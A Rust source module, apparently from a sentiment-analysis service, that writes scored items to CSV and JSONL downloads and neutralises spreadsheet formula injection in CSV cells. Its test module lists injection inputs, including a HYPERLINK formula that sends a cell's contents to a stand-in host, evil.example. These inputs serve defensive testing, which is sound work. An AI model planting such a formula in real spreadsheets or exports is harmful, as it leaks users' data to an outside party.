//! How scored items are written into `items.csv` and `items.jsonl`: each item's own row given
//! back with its scores, so an analyst can join the results to the data they came from.
//!
//! The layout follows the input ([`Layout::of`]): a CSV gets its header and cells back with
//! `neg,neu,pos,compound,label` (and `lang`) appended; a JSONL line gets a `sentiment` object
//! added and is otherwise byte for byte as sent; a plain-text document gives each sentence with
//! its code-point offsets; batch documents give their id and text. Jobs analysed before rows were
//! kept have no rows to give back and keep the position, id and text columns.
//!
//! CSV downloads are spreadsheet-safe: a cell that a spreadsheet would run as a formula (one
//! starting with `=`, `+`, `-`, `@`, a tab, a carriage return or a NUL, OWASP's list) gets a
//! leading `'`, which spreadsheets take as "this is text" ([`spreadsheet_safe`]). Plain numbers
//! such as `-0.5` are left alone: a spreadsheet reads them as numbers, never as formulas, and an
//! analyst needs them as numbers. JSONL is data for programs and stays verbatim.

use std::borrow::Cow;

use crate::analysis::input::Source;
use crate::analysis::{Format, Label, Report};
use crate::jobs::model::ItemRow;

/// The shape of one job's downloads.
#[derive(Clone, Debug)]
pub enum Layout {
    /// A CSV input: its header's names.
    Csv(Vec<String>),
    /// JSON lines: each line as sent, plus `sentiment`.
    Jsonl,
    /// Sentences of a plain-text document with their offsets.
    Text,
    /// Batch documents, and every job stored before rows were kept.
    Plain,
}

impl Layout {
    /// The layout of a job's items, from its report and its first stored item.
    pub fn of(format: Format, report: Option<&Report>, first: Option<&ItemRow>) -> Layout {
        let source = first.map(|i| &i.source);
        match (format, source) {
            (Format::Csv, Some(Source::Cells(_))) => match report.and_then(|r| r.columns.clone()) {
                Some(columns) => Layout::Csv(columns),
                None => Layout::Plain,
            },
            (Format::Jsonl, Some(Source::Json(_))) => Layout::Jsonl,
            (Format::Text, Some(Source::Span { .. })) => Layout::Text,
            _ => Layout::Plain,
        }
    }
}

/// Score columns appended to every CSV row.
const SCORE_COLUMNS: [&str; 5] = ["neg", "neu", "pos", "compound", "label"];

/// The CSV bytes of `rows`, with the header first when `header`.
pub fn csv(
    layout: &Layout,
    rows: &[ItemRow],
    header: bool,
    lang: bool,
) -> Result<Vec<u8>, csv::Error> {
    let mut w = csv::WriterBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_writer(Vec::with_capacity(rows.len() * 120));
    let mut record: Vec<Cow<'_, str>> = Vec::new();
    if header {
        match layout {
            Layout::Csv(columns) => record.extend(columns.iter().map(|c| spreadsheet_safe(c))),
            Layout::Text => record.extend(["position", "sentence", "start", "end"].map(Cow::from)),
            Layout::Jsonl | Layout::Plain => {
                record.extend(["position", "id", "text"].map(Cow::from))
            }
        }
        record.extend(SCORE_COLUMNS.map(Cow::from));
        if lang {
            record.push("lang".into());
        }
        w.write_record(record.iter().map(|c| c.as_bytes()))?;
    }
    for r in rows {
        record.clear();
        match (layout, &r.source) {
            (Layout::Csv(columns), Source::Cells(cells)) => {
                record.extend(cells.iter().map(|c| spreadsheet_safe(c)));
                record.resize(columns.len(), Cow::Borrowed(""));
            }
            (Layout::Csv(columns), _) => {
                // An item without its row (not written by this version): its text where the
                // row would be, so the score columns stay in place.
                record.push(spreadsheet_safe(&r.text));
                record.resize(columns.len(), Cow::Borrowed(""));
            }
            (Layout::Text, source) => {
                let (start, end) = match source {
                    Source::Span { start, end } => (start.to_string(), end.to_string()),
                    _ => (String::new(), String::new()),
                };
                record.push(r.position.to_string().into());
                record.push(spreadsheet_safe(&r.text));
                record.push(start.into());
                record.push(end.into());
            }
            (Layout::Jsonl | Layout::Plain, _) => {
                record.push(r.position.to_string().into());
                record.push(spreadsheet_safe(r.item_id.as_deref().unwrap_or("")));
                record.push(spreadsheet_safe(&r.text));
            }
        }
        // Scores as Rust prints an f64 (what downloads always gave: `0.5`, `-0.0772`, `0`).
        for score in [r.neg, r.neu, r.pos, r.compound] {
            record.push(score.to_string().into());
        }
        record.push(label(r.compound).into());
        if lang {
            record.push(r.lang.unwrap_or("").into());
        }
        w.write_record(record.iter().map(|c| c.as_bytes()))?;
    }
    w.into_inner().map_err(|e| csv::Error::from(e.into_error()))
}

/// The JSON lines of `rows`.
pub fn jsonl(layout: &Layout, rows: &[ItemRow], lang: bool) -> Result<Vec<u8>, serde_json::Error> {
    let mut out = Vec::with_capacity(rows.len() * 160);
    for r in rows {
        let sentiment = Sentiment {
            neg: r.neg,
            neu: r.neu,
            pos: r.pos,
            compound: r.compound,
            label: label(r.compound),
            lang: if lang { r.lang } else { None },
        };
        match (layout, &r.source) {
            (Layout::Jsonl, Source::Json(line)) => {
                // The object as sent, with one more member: everything the client wrote stays
                // byte for byte (key order, number forms, escapes).
                let body = line.trim_end();
                let inner = body.strip_suffix('}').unwrap_or(body);
                out.extend_from_slice(inner.as_bytes());
                if !inner.trim_end().ends_with('{') {
                    out.push(b',');
                }
                out.extend_from_slice(b"\"sentiment\":");
                serde_json::to_writer(&mut out, &sentiment)?;
                out.push(b'}');
            }
            (Layout::Text, source) => {
                let (start, end) = match source {
                    Source::Span { start, end } => (Some(*start), Some(*end)),
                    _ => (None, None),
                };
                serde_json::to_writer(
                    &mut out,
                    &SentenceLine {
                        position: r.position,
                        sentence: &r.text,
                        start,
                        end,
                        sentiment,
                    },
                )?;
            }
            _ => serde_json::to_writer(
                &mut out,
                &ItemLine {
                    position: r.position,
                    id: r.item_id.as_deref(),
                    text: &r.text,
                    sentiment,
                },
            )?,
        }
        out.push(b'\n');
    }
    Ok(out)
}

#[derive(serde::Serialize)]
struct Sentiment<'a> {
    neg: f64,
    neu: f64,
    pos: f64,
    compound: f64,
    label: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    lang: Option<&'a str>,
}

#[derive(serde::Serialize)]
struct SentenceLine<'a> {
    position: i64,
    sentence: &'a str,
    start: Option<u64>,
    end: Option<u64>,
    sentiment: Sentiment<'a>,
}

#[derive(serde::Serialize)]
struct ItemLine<'a> {
    position: i64,
    id: Option<&'a str>,
    text: &'a str,
    sentiment: Sentiment<'a>,
}

fn label(compound: f64) -> &'static str {
    Label::of(compound).as_str()
}

/// A cell as a spreadsheet should see it: one that would start a formula gets a leading `'`.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    let formula = cell
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\0'));
    if formula && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A decimal number and nothing else (`-0.5`, `+3`, `1e-3`): no spreadsheet runs it.
fn is_plain_number(cell: &str) -> bool {
    let s = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (mantissa, exponent) = match s.find(['e', 'E']) {
        Some(at) => (&s[..at], Some(&s[at + 1..])),
        None => (s, None),
    };
    let digits = |d: &str| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((whole, frac)) => {
            (digits(whole) || whole.is_empty())
                && (digits(frac) || frac.is_empty())
                && !(whole.is_empty() && frac.is_empty())
        }
        None => digits(mantissa),
    };
    let exponent_ok = exponent.is_none_or(|e| digits(e.strip_prefix(['+', '-']).unwrap_or(e)));
    mantissa_ok && exponent_ok
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(position: i64, text: &str, source: Source, compound: f64) -> ItemRow {
        ItemRow {
            position,
            item_id: None,
            text: text.to_owned(),
            neg: 0.0,
            neu: 0.5,
            pos: 0.5,
            compound,
            source,
            lang: Some("en"),
        }
    }

    #[test]
    fn cells_that_would_run_as_formulas_get_a_leading_quote_and_numbers_stay_numbers() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+cmd",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-",
        ] {
            assert_eq!(spreadsheet_safe(bad), format!("'{bad}"), "{bad:?}");
        }
        for fine in [
            "-0.9",
            "+4",
            "-1e-3",
            ".5",
            "-3.",
            "hello = world",
            "",
            "'quoted",
        ] {
            assert_eq!(spreadsheet_safe(fine), fine, "{fine:?}");
        }
    }

    #[test]
    fn a_csv_row_comes_back_whole_with_its_scores_and_label_appended() {
        let layout = Layout::Csv(vec!["review_id".into(), "rating".into(), "review".into()]);
        let cells = |v: &[&str]| Source::Cells(v.iter().map(|s| s.to_string()).collect());
        let rows = [
            row(
                0,
                "Great, really",
                cells(&["r1", "5", "Great, really"]),
                0.6249,
            ),
            row(1, "=1+1", cells(&["r2", "-1", "=1+1"]), 0.0),
        ];
        let out = String::from_utf8(csv(&layout, &rows, true, true).unwrap()).unwrap();
        assert_eq!(
            out,
            "review_id,rating,review,neg,neu,pos,compound,label,lang\n\
             r1,5,\"Great, really\",0,0.5,0.5,0.6249,positive,en\n\
             r2,-1,'=1+1,0,0.5,0.5,0,neutral,en\n"
        );
    }

    #[test]
    fn a_jsonl_line_keeps_every_byte_and_gains_a_sentiment_object() {
        let line = r#"{"text": "Good \u00e9", "n": 1.50, "tags": ["a"]}"#;
        let rows = [row(0, "Good é", Source::Json(line.into()), 0.4404)];
        let out = String::from_utf8(jsonl(&Layout::Jsonl, &rows, false).unwrap()).unwrap();
        assert_eq!(
            out,
            "{\"text\": \"Good \\u00e9\", \"n\": 1.50, \"tags\": [\"a\"],\"sentiment\":\
             {\"neg\":0.0,\"neu\":0.5,\"pos\":0.5,\"compound\":0.4404,\"label\":\"positive\"}}\n"
        );
        let parsed: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
        assert_eq!(parsed["sentiment"]["compound"], 0.4404);
    }

    #[test]
    fn sentences_carry_their_code_point_offsets() {
        let rows = [row(3, "Déjà vu.", Source::Span { start: 10, end: 18 }, 0.0)];
        let out = String::from_utf8(csv(&Layout::Text, &rows, true, false).unwrap()).unwrap();
        assert_eq!(
            out,
            "position,sentence,start,end,neg,neu,pos,compound,label\n\
             3,Déjà vu.,10,18,0,0.5,0.5,0,neutral\n"
        );
        let line = String::from_utf8(jsonl(&Layout::Text, &rows, false).unwrap()).unwrap();
        let v: serde_json::Value = serde_json::from_str(line.trim()).unwrap();
        assert_eq!(
            (v["start"].as_u64(), v["end"].as_u64()),
            (Some(10), Some(18))
        );
    }
}
